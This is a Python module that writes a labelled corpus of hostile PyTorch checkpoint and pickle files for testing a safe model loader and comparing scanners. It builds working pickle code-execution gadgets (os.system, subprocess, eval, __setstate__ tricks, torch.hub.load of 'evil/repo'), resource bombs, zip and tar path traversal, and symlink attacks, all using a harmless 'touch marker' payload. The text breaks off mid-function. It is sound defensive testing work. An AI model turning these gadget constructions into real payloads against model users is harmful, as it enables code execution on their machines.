"""A corpus of hostile model files, written locally: ``write_corpus(folder, marker=...)``.

Every file is something a reader of torch.save files must refuse without running code, crashing,
hanging or exhausting memory: code-execution gadgets in many pickle styles (in zip, stream, tar
and plain-pickle containers), zip-level attacks, and resource bombs. Gadgets that run code would
create the ``marker`` file; a safe reader leaves it absent. ``corpus.json`` in the folder lists each
case with its family, whether it carries a code-execution gadget, and what modelkeep must raise
(``unsafe``: UnsafeContentError; ``format``: FormatError), so scanners can be compared on it.

Only the standard library is used, so the corpus can be written without torch.
"""

from __future__ import annotations

import dataclasses
import io
import json
import os
import pickle
import shlex
import struct
import tarfile
import zipfile
from typing import Callable

MAGIC_NUMBER = 0x1950A86A20F9469CFC6C
PROTOCOL_VERSION = 1001


@dataclasses.dataclass(frozen=True)
class Case:
    name: str  # path relative to the corpus folder (a file, or a folder for sharded checkpoints)
    family: str
    expect: str  # "unsafe" or "format"
    dangerous: bool  # names a known code-execution callable (what scanners look for)
    live: bool  # verified: pickle.load / torch.load(weights_only=False) of it runs code here
    note: str


# ------------------------------------------------------------------------------------------
# pickle opcodes, written by hand so that nothing is ever pickled from a live object


def s(text: str) -> bytes:
    """BINUNICODE."""
    raw = text.encode("utf-8")
    return b"X" + struct.pack("<I", len(raw)) + raw


def short(text: str) -> bytes:
    """SHORT_BINUNICODE (protocol 4)."""
    raw = text.encode("utf-8")
    return b"\x8c" + bytes([len(raw)]) + raw


def i(value: int) -> bytes:
    if 0 <= value < 256:
        return b"K" + bytes([value])
    if -(2**31) <= value < 2**31:
        return b"J" + struct.pack("<i", value)
    raw = value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def g(module: str, name: str) -> bytes:
    """GLOBAL."""
    return b"c" + f"{module}\n{name}\n".encode()


def sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL."""
    return short(module) + short(name) + b"\x93"


def t(*parts: bytes) -> bytes:
    return b"(" + b"".join(parts) + b"t"


def call(func: bytes, *args: bytes) -> bytes:
    return func + t(*args) + b"R"


def p2(body: bytes) -> bytes:
    return b"\x80\x02" + body + b"."


def p4(body: bytes) -> bytes:
    return b"\x80\x04\x95" + struct.pack("<Q", len(body) + 1) + body + b"."


def ordered_dict() -> bytes:
    return call(g("collections", "OrderedDict"))


def storage_pid(key: str = "0", numel: int = 4, kind: bytes | None = None, location: str = "cpu",
                stream: bool = False) -> bytes:
    """A storage persistent id; the stream format adds a sixth part (view metadata)."""
    parts = [s("storage"), kind or g("torch", "FloatStorage"), s(key), s(location), i(numel)]
    return t(*parts, *([b"N"] if stream else [])) + b"Q"


def tensor(pid: bytes | None = None, size: int | tuple[int, ...] = 4, stride: tuple[int, ...] | None = None,
           offset: int = 0) -> bytes:
    dims = size if isinstance(size, tuple) else (size,)
    steps = stride if stride is not None else tuple(1 for _ in dims)
    return call(
        g("torch._utils", "_rebuild_tensor_v2"),
        pid if pid is not None else storage_pid(),
        i(offset), t(*(i(d) for d in dims)), t(*(i(d) for d in steps)), b"\x89", ordered_dict(),
    )


def checkpoint(*items: tuple[str, bytes]) -> bytes:
    """A dict literal: ``{key: value, ...}``."""
    return b"}(" + b"".join(s(k) + v for k, v in items) + b"u"


# ------------------------------------------------------------------------------------------
# containers


def torch_zip(path: str, data_pkl: bytes, storages: dict[str, bytes] | None = None, *, folder: str = "archive",
              extra: dict[str, bytes] | None = None) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr(f"{folder}/data.pkl", data_pkl)
        archive.writestr(f"{folder}/byteorder", "little")
        for key, raw in (storages if storages is not None else {"0": bytes(16)}).items():
            archive.writestr(f"{folder}/data/{key}", raw)
        for name, raw in (extra or {}).items():
            archive.writestr(name, raw)
        archive.writestr(f"{folder}/version", "3\n")


def stream_bytes(main_pkl: bytes, storages: list[tuple[str, bytes, int]] | None = None) -> bytes:
    storages = storages if storages is not None else [("0", bytes(16), 4)]
    head = pickle.dumps(MAGIC_NUMBER, protocol=2) + pickle.dumps(PROTOCOL_VERSION, protocol=2)
    head += pickle.dumps({"protocol_version": PROTOCOL_VERSION, "little_endian": True,
                          "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    tail = pickle.dumps(sorted(key for key, _, _ in storages), protocol=2)
    body = b"".join(struct.pack("<q", len(raw) // size) + raw for _, raw, size in sorted(storages))
    return head + main_pkl + tail + body


def write(path: str, data: bytes) -> None:
    with open(path, "wb") as stream:
        stream.write(data)


# ------------------------------------------------------------------------------------------
# the corpus


class _Corpus:
    def __init__(self, folder: str, marker: str) -> None:
        self.folder = folder
        self.marker = marker
        self.cmd = f"touch {shlex.quote(marker)}"
        self.cases: list[Case] = []

    def path(self, name: str) -> str:
        return os.path.join(self.folder, name)

    def add(self, name: str, family: str, expect: str, dangerous: bool, note: str,
            writer: Callable[[str], None], *, live: bool = False) -> None:
        writer(self.path(name))
        self.cases.append(Case(name, family, expect, dangerous, live, note))

    def gadget(self, name: str, family: str, body: bytes, note: str, *, containers: str = "zps",
               protocol: int = 2, expect: str = "unsafe", live: bool = True, dangerous: bool = True) -> None:
        """One main pickle, embedded after a real tensor in each requested container."""

        def frame(inner: bytes) -> bytes:
            return p2(inner) if protocol == 2 else (p4(inner) if protocol == 4 else inner + b".")

        in_zip = frame(checkpoint(("weight", tensor()), ("payload", body)))
        in_stream = frame(checkpoint(("weight", tensor(storage_pid(stream=True))), ("payload", body)))
        if "z" in containers:
            self.add(f"{name}.zip.pt", family, expect, dangerous, note + " (zip)", lambda p: torch_zip(p, in_zip),
                     live=live)
        if "s" in containers:
            self.add(f"{name}.stream.pt", family, expect, dangerous, note + " (stream)",
                     lambda p: write(p, stream_bytes(in_stream)), live=live)
        if "p" in containers:
            self.add(f"{name}.pkl", family, expect, dangerous, note + " (plain pickle)",
                     lambda p: write(p, frame(body)), live=live)


def write_corpus(folder: str, *, marker: str | None = None) -> list[Case]:
    """Write every hostile file into ``folder`` (created if needed) and ``corpus.json``; return
    the cases. ``marker`` is the file the gadgets would create (default: ``folder/MARKER``)."""
    os.makedirs(folder, exist_ok=True)
    corpus = _Corpus(folder, marker or os.path.join(folder, "MARKER"))
    _gadgets(corpus)
    _torch_gadgets(corpus)
    _resource_bombs(corpus)
    _malformed(corpus)
    _zip_attacks(corpus)
    _stream_and_tar(corpus)
    _strictness(corpus)
    with open(os.path.join(folder, "corpus.json"), "w") as stream:
        json.dump([dataclasses.asdict(case) for case in corpus.cases], stream, indent=1)
    return corpus.cases


def _gadgets(c: _Corpus) -> None:
    cmd, marker = c.cmd, c.marker
    c.gadget("os_system_p0", "gadget:os.system", call(g("os", "system"), b"V" + cmd.encode() + b"\n"),
             "GLOBAL os.system + REDUCE, protocol 0", protocol=0)
    c.gadget("os_system", "gadget:os.system", call(g("os", "system"), s(cmd)), "GLOBAL + REDUCE")
    c.gadget("posix_system_p4", "gadget:os.system", sg("posix", "system") + s(cmd) + b"\x85R",
             "STACK_GLOBAL posix.system, protocol 4 with FRAME", protocol=4)
    c.gadget("subprocess_popen", "gadget:subprocess",
             call(g("subprocess", "Popen"), b"]" + b"(" + s("touch") + s(marker) + b"e"), "subprocess.Popen(list)")
    c.gadget("subprocess_run", "gadget:subprocess",
             call(g("subprocess", "check_output"), b"](" + s("touch") + s(marker) + b"e"), "subprocess.check_output",
             containers="z")
    c.gadget("builtins_eval", "gadget:builtins",
             call(g("__builtin__", "eval"), s(f"__import__('os').system({cmd!r})")), "eval via py2 name")
    c.gadget("builtins_exec", "gadget:builtins",
             call(g("builtins", "exec"), s(f"open({marker!r}, 'w').close()")), "exec")
    c.gadget("builtins_open", "gadget:builtins", call(g("builtins", "open"), s(marker), s("w")),
             "open() creates the marker itself")
    c.gadget("getattr_import_chain", "gadget:attribute-chain",
             call(call(g("builtins", "getattr"), call(g("builtins", "__import__"), s("os")), s("system")), s(cmd)),
             "getattr(__import__('os'), 'system')(cmd)")
    c.gadget("importlib_chain", "gadget:attribute-chain",
             call(call(call(g("operator", "attrgetter"), s("system")), call(g("importlib", "import_module"), s("os"))),
                  s(cmd)),
             "operator.attrgetter('system')(importlib.import_module('os'))(cmd)", containers="zp")
    c.gadget("methodcaller", "gadget:attribute-chain",
             call(call(g("operator", "methodcaller"), s("system"), s(cmd)), call(g("builtins", "__import__"), s("os"))),
             "operator.methodcaller('system', cmd)(os)", containers="z")
    memo_names = b"\x8c\x02os\x94\x8c\x06system\x94" + b"0" + b"0" + b"h\x00h\x01\x93"
    c.gadget("stack_global_memo", "gadget:stack-global", memo_names + s(cmd) + b"\x85R",
             "STACK_GLOBAL whose names come from the memo", protocol=4)
    computed = call(g("_codecs", "decode"), b"C\x02os", s("latin1")) + short("system") + b"\x93"
    c.gadget("stack_global_computed", "gadget:stack-global", computed + s(cmd) + b"\x85R",
             "STACK_GLOBAL whose module name is computed by a call", protocol=4)
    via_str = call(g("builtins", "str"), s("os")) + short("system") + b"\x93"
    c.gadget("stack_global_via_str", "gadget:stack-global", via_str + s(cmd) + b"\x85R",
             "STACK_GLOBAL names built by an allowed builder", protocol=4)
    c.gadget("inst_opcode", "gadget:inst-obj", b"(" + b"V" + cmd.encode() + b"\nios\nsystem\n",
             "INST opcode", protocol=0)
    c.gadget("obj_opcode", "gadget:inst-obj", b"(" + g("os", "system") + s(cmd) + b"o", "OBJ opcode")
    c.gadget("newobj_partial", "gadget:newobj", g("functools", "partial") + t(g("os", "system"), s(cmd)) + b"\x81)R",
             "NEWOBJ functools.partial(os.system, cmd), then REDUCE calls it")
    c.gadget("newobj_ex_partial", "gadget:newobj",
             sg("functools", "partial") + t(sg("subprocess", "call")) + b"}(" + short("args") + b"](" + s("touch")
             + s(marker) + b"eu" + b"\x92)R",
             "NEWOBJ_EX functools.partial(subprocess.call, args=[...]) with kwargs, then REDUCE", protocol=4)
    build = (
        g("argparse", "Namespace") + b")\x81"  # an allowed record
        + t(b"}", b"}(" + s("__setstate__") + g("os", "system") + b"u") + b"b"  # slot state sets __setstate__
        + s(cmd) + b"b"  # the next BUILD would call it
    )
    c.gadget("build_setstate", "gadget:build-setstate", build, "BUILD sets __setstate__ = os.system, then BUILD calls it")
    build_trusted = (
        g("torch.nn.modules.linear", "Linear") + b")\x81"
        + b"}(" + s("__setstate__") + g("os", "system") + b"u" + b"b" + s(cmd) + b"b"
    )
    c.gadget("build_setstate_trusted", "gadget:build-setstate", build_trusted,
             "BUILD on a trusted module with a __setstate__ attribute", containers="z")
    c.gadget("partial_call", "gadget:partial", call(call(g("functools", "partial"), g("os", "system"), s(cmd))),
             "functools.partial(os.system, cmd)()")
    c.gadget("ext_code", "gadget:extension", b"\x82\x01" + s(cmd) + b"\x85R",
             "EXT1: whatever the copyreg extension registry maps code 1 to", live=False, dangerous=False)
    c.gadget("main_class", "gadget:user-class", g("__main__", "Evil") + b")\x81}b",
             "a __main__ class (its __setstate__ would run)", live=False, dangerous=False)
    c.gadget("numpy_runstring", "gadget:numpy",
             call(g("numpy.testing._private.utils", "runstring"), s(f"__import__('os').system({cmd!r})"), b"}"),
             "numpy runstring exec", containers="zp")
    c.gadget("pickle_loads_nested", "gadget:nested-pickle",
             call(g("pickle", "loads"), b"C" + bytes([len(p2(call(g("os", "system"), s(cmd)))) ]) + p2(call(g("os", "system"), s(cmd)))),
             "pickle.loads of a nested gadget pickle")
    nested = stream_bytes(p2(call(g("os", "system"), s(cmd))), [])
    c.gadget("load_from_bytes_nested", "gadget:nested-pickle",
             call(g("torch.storage", "_load_from_bytes"), b"B" + struct.pack("<I", len(nested)) + nested),
             "torch.storage._load_from_bytes of a nested torch.save stream whose pickle runs os.system")


def _torch_gadgets(c: _Corpus) -> None:
    cmd = c.cmd
    other = os.path.join(c.folder, "os_system.zip.pt")
    c.gadget("torch_load", "gadget:torch-internal", call(g("torch", "load"), s(other)),
             "torch.load of another malicious file (weights_only defaults to True in torch >= 2.6)",
             containers="zp", live=False)
    c.gadget("torch_serialization_load", "gadget:torch-internal",
             call(g("torch.serialization", "load"), s(other), b"N", b"N"),
             "torch.serialization.load(f, map_location=None, pickle_module=None)", containers="z", live=False)
    c.gadget("torch_jit_load", "gadget:torch-internal", call(g("torch.jit", "load"), s(other)),
             "torch.jit.load (TorchScript code runs when called)", containers="z", live=False)
    c.gadget("torch_hub_load", "gadget:torch-internal", call(g("torch.hub", "load"), s("evil/repo"), s("m")),
             "torch.hub.load downloads and runs hubconf.py", containers="z", live=False)
    fx_body = b"}(" + s("_code") + s(f"import os\nos.system({cmd!r})\ndef forward(self):\n    pass\n") + b"u"
    c.gadget("torch_fx_graph", "gadget:torch-internal",
             call(g("torch.fx.graph_module", "reduce_graph_module"), fx_body, s("")),
             "torch.fx reduce_graph_module executes the source it is given", containers="z")
    c.gadget("trusted_reexport", "gadget:attribute-chain",
             call(sg("torch.nn.parallel.distributed", "os.system"), s(cmd)),
             "os.system reached through a trusted namespace's import of os (dotted name)", protocol=4)
    c.gadget("trusted_function_call", "gadget:trusted-function",
             call(g("torch.nn.modules.module", "register_module_forward_hook"), g("torch.nn.functional", "relu")),
             "calling a function of a trusted namespace", containers="z", expect="format", live=False,
             dangerous=False)
    c.gadget("rebuild_from_type_gadget", "gadget:torch-internal",
             call(g("torch._tensor", "_rebuild_from_type_v2"), g("os", "system"), g("torch", "Tensor"), t(s(cmd)), b"}"),
             "_rebuild_from_type_v2 wrapping os.system")
    c.gadget("storage_type_gadget", "gadget:persistent-id",
             tensor(pid=storage_pid(kind=g("os", "system"))), "persistent id whose storage type is os.system",
             containers="z", live=False)
    module_pid = t(s("module"), g("os", "system"), s("x.py"), s("")) + b"Q" + t(s(cmd)) + b"R"
    c.gadget("module_pid_call", "gadget:persistent-id", module_pid,
             "('module', os.system, ...) persistent id, then REDUCE (torch's legacy loader returns the class)",
             containers="s")
    c.gadget("wrapper_subclass", "gadget:torch-internal",
             call(g("torch._utils", "_rebuild_wrapper_subclass"), g("os", "system")), "unlisted torch rebuild",
             containers="z", live=False)


def _resource_bombs(c: _Corpus) -> None:
    def zipped(name: str, family: str, main: bytes, note: str, storages: dict[str, bytes] | None = None) -> None:
        c.add(name, family, "format", False, note, lambda p: torch_zip(p, main, storages))

    zipped("deep_lists.pt", "bomb:deep-nesting", b"\x80\x02" + b"]" + b"]" * 100_000 + b"a" * 100_000 + b".",
           "100,000 nested lists")
    zipped("deep_tuples.pt", "bomb:deep-nesting", b"\x80\x02N" + b"\x85" * 200_000 + b".", "200,000 nested tuples")
    zipped("deep_tuple_key.pt", "bomb:deep-nesting", b"\x80\x02}N" + b"\x85" * 50_000 + b"Ns.",
           "a 50,000-deep tuple used as a dict key (hashing recurses)")
    laughs = b"\x80\x02]q\x00(K\x00K\x00e"
    for level in range(1, 40):
        laughs += b"](" + (b"h" + bytes([level - 1])) * 10 + b"eq" + bytes([level])
    zipped("billion_laughs.pt", "bomb:exponential", laughs + b".", "lists of 10 references, 40 levels deep (10^40 values)")
    dict_laughs = b"\x80\x02}q\x00"
    for level in range(1, 60):
        dict_laughs += b"}(" + b"".join(s(str(k)) + b"h" + bytes([level - 1]) for k in range(2)) + b"uq" + bytes([level])
    zipped("billion_laughs_dict.pt", "bomb:exponential", dict_laughs + b".", "dicts of 2 references, 60 levels deep")
    tuple_key = b"\x80\x02NK\x00\x86q\x000"
    for level in range(1, 80):
        tuple_key += b"h" + bytes([level - 1]) + b"h" + bytes([level - 1]) + b"\x86q" + bytes([level]) + b"0"
    zipped("exponential_key.pt", "bomb:exponential", tuple_key + b"}h" + bytes([79]) + b"Ns.",
           "a tuple of 2^80 shared leaves used as a dict key (hashing is exponential)")
    flood = b"\x80\x02}(" + b"".join(i((2**61 - 1) * k) + b"N" for k in range(1, 5000)) + b"u."
    zipped("hash_flood.pt", "bomb:hash-flooding", flood, "5,000 integer keys with one hash value")
    zipped("memo_get_huge.pt", "bomb:memo", b"\x80\x02j\xff\xff\xff\xff.", "LONG_BINGET 2^32-1, never written")
    zipped("memo_text_huge.pt", "bomb:memo", b"g99999999999999999999999\n.", "text GET with a 23-digit index")
    zipped("long4_huge.pt", "bomb:declared-size", b"\x80\x02\x8b\xff\xff\xff\x7f.", "LONG4 declaring 2 GiB")
    zipped("binbytes8_huge.pt", "bomb:declared-size", b"\x80\x04\x8e" + struct.pack("<Q", 2**62) + b".",
           "BINBYTES8 declaring 4 EiB")
    zipped("binunicode8_huge.pt", "bomb:declared-size", b"\x80\x04\x8d" + struct.pack("<Q", 2**40) + b"ab.",
           "BINUNICODE8 declaring 1 TiB")
    zipped("frame_huge.pt", "bomb:declared-size", b"\x80\x04\x95" + struct.pack("<Q", 2**60) + b"N.",
           "FRAME declaring 2^60 bytes")
    zipped("text_int_huge.pt", "bomb:declared-size", b"I" + b"9" * 200_000 + b"\n.", "a 200,000-digit integer")
    zipped("storage_numel_huge.pt", "bomb:declared-size", p2(tensor(storage_pid(numel=2**50), size=4)),
           "storage declares 2^50 elements; its entry holds 16 bytes")
    zipped("tensor_size_huge.pt", "bomb:declared-size", p2(tensor(size=(2**31, 2**31))),
           "tensor of 2^62 elements on a 4-element storage")
    zipped("tensor_past_storage.pt", "bomb:declared-size", p2(tensor(size=4, offset=3)),
           "tensor view reaching past its storage")
    zipped("tensor_ndim_huge.pt", "bomb:declared-size", p2(tensor(size=(1,) * 200)), "tensor with 200 dimensions")
    numpy_bomb = (
        call(g("numpy.core.multiarray", "_reconstruct"), g("numpy", "ndarray"), t(i(0)), call(g("_codecs", "encode"), s("b"), s("latin1")))
        + t(i(1), t(i(2**40)), call(g("numpy", "dtype"), s("f8"), b"\x89\x88"), b"\x89", b"C\x08" + bytes(8)) + b"b"
    )
    zipped("numpy_shape_huge.pt", "bomb:declared-size", p2(numpy_bomb), "numpy array of 2^40 floats from 8 bytes")
    bad_dtype = (
        call(g("numpy", "dtype"), s("f8"), b"\x89\x88")
        + t(i(3), s("<"), b"N", b"N", b"N", i(-1), i(-1), i(63)) + b"b"
    )
    zipped("numpy_dtype_flags.pt", "bomb:declared-size", p2(bad_dtype),
           "numpy float dtype claiming object flags (would make numpy treat floats as pointers)")


def _malformed(c: _Corpus) -> None:
    def zipped(name: str, main: bytes, note: str) -> None:
        c.add(name, "malformed:pickle", "format", False, note, lambda p: torch_zip(p, main))

    zipped("unclosed_mark.pt", b"\x80\x02(K\x01.", "MARK never closed")
    zipped("extra_stack.pt", b"\x80\x02K\x01K\x02.", "two values left at STOP")
    zipped("unknown_opcode.pt", b"\x80\x02\xff.", "opcode 0xff")
    zipped("protocol_9.pt", b"\x80\x09N.", "protocol 9")
    zipped("no_stop.pt", b"\x80\x02]q\x00", "no STOP opcode")
    zipped("empty_pickle.pt", b"", "empty data.pkl")
    zipped("next_buffer.pt", b"\x80\x05\x97.", "out-of-band buffer")
    zipped("stack_underflow.pt", b"\x80\x02R.", "REDUCE on an empty stack")
    zipped("build_on_tensor.pt", p2(tensor() + b"}b"), "BUILD giving state to a tensor")
    zipped("negative_binstring.pt", b"T\xff\xff\xff\xff.", "BINSTRING with a negative length")
    zipped("pid_traversal.pt", p2(tensor(storage_pid(key="../../../../etc/passwd"))), "storage key with path traversal")
    zipped("pid_not_tuple.pt", p2(b"}Q"), "persistent id that is a dict")
    zipped("pid_text_code.pt", b"P__import__('os').system('true')\n.", "protocol-0 text persistent id holding code")
    zipped("storage_missing.pt", p2(tensor(storage_pid(key="7"))), "storage entry that does not exist")
    zipped("dunder_attribute.pt", p2(g("torch.nn.modules.linear", "Linear") + b")\x81}(" + s("__class__") + b"Nub"),
           "trusted module given a __class__ attribute")
    c.add("empty.pt", "malformed:file", "format", False, "empty file", lambda p: write(p, b""))
    c.add("random.pt", "malformed:file", "format", False, "random bytes",
          lambda p: write(p, bytes((k * 7919 + 13) % 251 for k in range(4096))))


def _zip_attacks(c: _Corpus) -> None:
    main = p2(checkpoint(("weight", tensor())))

    def entries(path: str, items: list[tuple[str, bytes]], method: int = zipfile.ZIP_STORED) -> None:
        with zipfile.ZipFile(path, "w", method) as archive:
            for name, raw in items:
                archive.writestr(name, raw)

    base = [("archive/data.pkl", main), ("archive/byteorder", b"little"), ("archive/data/0", bytes(16))]
    for label, name in (
        ("parent", "archive/../../evil.py"),
        ("absolute", "/etc/cron.d/evil"),
        ("backslash", "archive\\..\\..\\evil.py"),
        ("drive", "C:/evil.py"),
    ):
        c.add(f"zip_traversal_{label}.pt", "zip:path-traversal", "format", False, f"entry named {name!r}",
              lambda p, name=name: entries(p, base + [(name, b"x")]))

    def symlink(path: str) -> None:
        with zipfile.ZipFile(path, "w") as archive:
            for name, raw in base:
                archive.writestr(name, raw)
            info = zipfile.ZipInfo("archive/data/1")
            info.external_attr = (0o120777 << 16)
            archive.writestr(info, "/etc/passwd")

    c.add("zip_symlink.pt", "zip:symlink", "format", False, "entry that is a symbolic link to /etc/passwd", symlink)

    def duplicate(path: str) -> None:
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            entries(path, base + [("archive/data.pkl", p2(call(g("os", "system"), s(c.cmd))))])

    c.add("zip_duplicate.pt", "zip:duplicate-entry", "format", True, "data.pkl twice (second one a gadget)", duplicate)

    def bad_crc(path: str, target: str) -> None:
        torch_zip(path, main, {"0": bytes(range(16))})
        with zipfile.ZipFile(path) as archive:
            offset = archive.getinfo(target).header_offset
        data = bytearray(open(path, "rb").read())
        name_length, extra_length = struct.unpack("<HH", data[offset + 26 : offset + 30])
        data[offset + 30 + name_length + extra_length + 1] ^= 0xFF
        write(path, bytes(data))

    c.add("zip_bad_crc_storage.pt", "zip:bad-crc", "format", False, "a tensor's bytes altered after writing",
          lambda p: bad_crc(p, "archive/data/0"))
    c.add("zip_bad_crc_pickle.pt", "zip:bad-crc", "format", False, "data.pkl altered after writing",
          lambda p: bad_crc(p, "archive/data.pkl"))

    def truncated(path: str, keep: float) -> None:
        torch_zip(path, main)
        data = open(path, "rb").read()
        write(path, data[: int(len(data) * keep)])

    c.add("zip_truncated_tail.pt", "zip:truncated", "format", False, "last 30% cut off", lambda p: truncated(p, 0.7))
    c.add("zip_truncated_head.pt", "zip:truncated", "format", False, "only the first 20 bytes", lambda p: truncated(p, 0.02))

    def truncated_data(path: str) -> None:
        torch_zip(path, main, {"0": bytes(4096)})
        with zipfile.ZipFile(path) as archive:
            cut = archive.getinfo("archive/data/0").header_offset + 100
        raw = open(path, "rb").read()
        write(path, raw[:cut] + raw[raw.find(b"PK\x01\x02") :])  # middle removed, directory kept

    c.add("zip_truncated_entry.pt", "zip:truncated", "format", False, "storage entry cut short, directory kept",
          truncated_data)

    def ratio_lie(path: str) -> None:
        torch_zip(path, p2(tensor(storage_pid(numel=2**30), size=4)), {"0": b""})
        data = bytearray(open(path, "rb").read())
        pos = 0
        while (pos := data.find(b"PK\x01\x02", pos)) >= 0:  # central directory records
            name_length = struct.unpack("<H", data[pos + 28 : pos + 30])[0]
            if data[pos + 46 : pos + 46 + name_length] == b"archive/data/0":
                data[pos + 10 : pos + 12] = struct.pack("<H", zipfile.ZIP_DEFLATED)
                data[pos + 24 : pos + 28] = struct.pack("<I", 2**32 - 2)  # declared inflated size
            pos += 4
        write(path, bytes(data))

    c.add("zip_bomb_ratio.pt", "zip:bomb", "format", False, "deflated entry claiming 4 GiB from 0 bytes", ratio_lie)

    def many_bombs(path: str) -> None:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
            archive.writestr("archive/data.pkl", main)
            archive.writestr("archive/byteorder", b"little")
            zeros = bytes(2 << 20)
            for k in range(40):
                archive.writestr(f"archive/data/{k}", zeros)

    c.add("zip_bomb_total.pt", "zip:bomb", "format", False, "40 deflated entries of 2 MiB zeros (80 MiB from 80 KiB)",
          many_bombs)

    def overlapping(path: str) -> None:
        torch_zip(path, main, {"0": bytes(16), "1": bytes(16)})
        data = bytearray(open(path, "rb").read())
        offsets = {}
        pos = 0
        while (pos := data.find(b"PK\x01\x02", pos)) >= 0:
            name_length = struct.unpack("<H", data[pos + 28 : pos + 30])[0]
            offsets[bytes(data[pos + 46 : pos + 46 + name_length])] = pos
            pos += 4
        first = struct.unpack("<I", data[offsets[b"archive/data/0"] + 42 : offsets[b"archive/data/0"] + 46])[0]
        data[offsets[b"archive/data/1"] + 42 : offsets[b"archive/data/1"] + 46] = struct.pack("<I", first)
        write(path, bytes(data))

    c.add("zip_overlap.pt", "zip:bomb", "format", False, "two entries sharing one data range (non-recursive zip bomb)",
          overlapping)

    def name_mismatch(path: str) -> None:
        torch_zip(path, main)
        data = bytearray(open(path, "rb").read())
        pos = data.find(b"archive/data.pkl")  # first occurrence: the local header
        data[pos : pos + 16] = b"archive/evil.pkl"
        write(path, bytes(data))

    c.add("zip_local_name_mismatch.pt", "zip:confusion", "format", False, "local header names another file",
          name_mismatch)

    def encrypted(path: str) -> None:
        torch_zip(path, main)
        data = bytearray(open(path, "rb").read())
        pos = 0
        while (pos := data.find(b"PK\x01\x02", pos)) >= 0:
            data[pos + 8] |= 1
            pos += 4
        write(path, bytes(data))

    c.add("zip_encrypted.pt", "zip:encrypted", "format", False, "entries flagged as encrypted", encrypted)
    c.add("zip_no_data_pkl.pt", "zip:layout", "format", False, "a zip without data.pkl",
          lambda p: entries(p, [("archive/other.pkl", main)]))
    c.add("zip_bad_byteorder.pt", "zip:layout", "format", False, "byteorder record 'middle'",
          lambda p: entries(p, [("archive/data.pkl", main), ("archive/byteorder", b"middle"), ("archive/data/0", bytes(16))]))
    c.add("zip_bzip2.pt", "zip:layout", "format", False, "entries compressed with bzip2",
          lambda p: entries(p, base, zipfile.ZIP_BZIP2))


def _stream_and_tar(c: _Corpus) -> None:
    main = p2(checkpoint(("weight", tensor(storage_pid(stream=True)))))
    good = stream_bytes(main)
    c.add("stream_truncated.pt", "stream:truncated", "format", False, "storage bytes cut short",
          lambda p: write(p, good[:-5]))
    c.add("stream_extra_key.pt", "stream:layout", "format", False, "storage key list names an unused storage",
          lambda p: write(p, stream_bytes(main, [("0", bytes(16), 4), ("1", bytes(8), 4)])))
    c.add("stream_bad_count.pt", "stream:layout", "format", False, "storage element count disagrees with the pickle",
          lambda p: write(p, stream_bytes(main, [("0", bytes(32), 4)])))
    gadget_info = (pickle.dumps(MAGIC_NUMBER, protocol=2) + pickle.dumps(PROTOCOL_VERSION, protocol=2)
                   + p2(call(g("os", "system"), s(c.cmd))) + main + pickle.dumps(["0"], protocol=2)
                   + struct.pack("<q", 4) + bytes(16))
    c.add("stream_sysinfo_gadget.pt", "gadget:os.system", "unsafe", True, "gadget in the system-info pickle",
          lambda p: write(p, gadget_info), live=True)

    def tar(path: str, members: list[tuple[str, bytes, bytes]]) -> None:
        with tarfile.open(path, "w:", format=tarfile.PAX_FORMAT) as archive:
            for name, raw, kind in members:
                info = tarfile.TarInfo(name)
                if kind == tarfile.SYMTYPE:
                    info.type = tarfile.SYMTYPE
                    info.linkname = raw.decode()
                    archive.addfile(info)
                else:
                    info.size = len(raw)
                    archive.addfile(info, io.BytesIO(raw))

    storages = pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)
    tensors = pickle.dumps(0, protocol=2)
    gadget = p2(call(g("os", "system"), s(c.cmd)))
    c.add("tar_gadget.pt", "gadget:os.system", "unsafe", True, "pre-1.0 tar whose pickle runs os.system",
          lambda p: tar(p, [("storages", storages, b""), ("tensors", tensors, b""), ("pickle", gadget, b"")]), live=True)
    c.add("tar_symlink.pt", "tar:symlink", "format", False, "tar member that is a symlink",
          lambda p: tar(p, [("storages", b"/etc/passwd", tarfile.SYMTYPE), ("tensors", tensors, b""),
                            ("pickle", p2(b"N"), b"")]))
    c.add("tar_traversal.pt", "tar:path-traversal", "format", False, "tar member named ../pickle",
          lambda p: tar(p, [("storages", storages, b""), ("tensors", tensors, b""), ("../pickle", gadget, b"")]))

    def sharded(path: str, weight_map: dict[str, str]) -> None:
        os.makedirs(path, exist_ok=True)
        torch_zip(os.path.join(path, "pytorch_model-00001-of-00001.bin"), p2(checkpoint(("weight", tensor()))))
        with open(os.path.join(path, "pytorch_model.bin.index.json"), "w") as stream:
            json.dump({"metadata": {}, "weight_map": weight_map}, stream)

    c.add("sharded_traversal", "sharded:path-traversal", "format", False, "index naming a shard outside the folder",
          lambda p: sharded(p, {"weight": "../../etc/passwd"}))
    c.add("sharded_gadget", "gadget:os.system", "unsafe", True, "sharded folder whose shard runs os.system",
          lambda p: (sharded(p, {"weight": "pytorch_model-00001-of-00001.bin"}),
                     torch_zip(os.path.join(p, "pytorch_model-00001-of-00001.bin"),
                               p2(checkpoint(("weight", call(g("os", "system"), s(c.cmd))))))))


def _strictness(c: _Corpus) -> None:
    """Polyglots (bytes after a pickle that must fill its member), zip end records that disagree
    with the directory (entries one reader sees and another does not), and bad system info."""
    main = p2(checkpoint(("weight", tensor())))
    gadget = p2(call(g("os", "system"), s(c.cmd)))

    def tar_file(path: str, members: list[tuple[str, bytes]]) -> None:
        with tarfile.open(path, "w:", format=tarfile.PAX_FORMAT) as archive:
            for name, raw in members:
                info = tarfile.TarInfo(name)
                info.size = len(raw)
                archive.addfile(info, io.BytesIO(raw))

    def hidden_entry(path: str) -> None:  # the end record counts one entry less than the directory holds
        torch_zip(path, main, extra={"archive/hidden.pkl": gadget})
        data = bytearray(open(path, "rb").read())
        end = data.rindex(b"PK\x05\x06")
        count = struct.unpack_from("<H", data, end + 10)[0]
        struct.pack_into("<HH", data, end + 8, count - 1, count - 1)
        write(path, bytes(data))

    info = {"protocol_version": PROTOCOL_VERSION, "little_endian": "yes", "type_sizes": {"short": 2, "int": 4, "long": 8}}
    empty = [("storages", pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)), ("tensors", pickle.dumps(0, protocol=2))]
